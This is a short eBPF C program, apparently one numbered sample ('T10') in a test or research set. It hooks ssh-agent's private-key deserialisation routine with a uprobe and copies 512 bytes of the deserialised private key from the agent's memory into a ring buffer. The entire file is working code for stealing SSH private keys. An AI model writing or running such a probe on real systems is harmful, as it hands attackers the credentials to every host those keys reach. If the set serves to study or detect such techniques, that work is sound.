// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T10: a key agent's private key: the buffer's structure is read in one go, then what its pointer leads to.
#include "sample.h"

LICENSE;

struct key_buffer {
	u64 start, here, offset, size;
};
RINGBUF(agent_keys, 1 << 16);

SEC("uprobe//usr/bin/ssh-agent:sshkey_private_deserialize")
int BPF_KPROBE(agent_key, void *buf)
{
	struct key_buffer b;
	u8 *out;

	if (bpf_probe_read_user(&b, sizeof(b), buf))
		return 0;
	out = bpf_ringbuf_reserve(&agent_keys, 512, 0);
	if (!out)
		return 0;
	bpf_probe_read_user(out, 512, (void *)b.here);
	bpf_ringbuf_submit(out, 0);
	return 0;
}
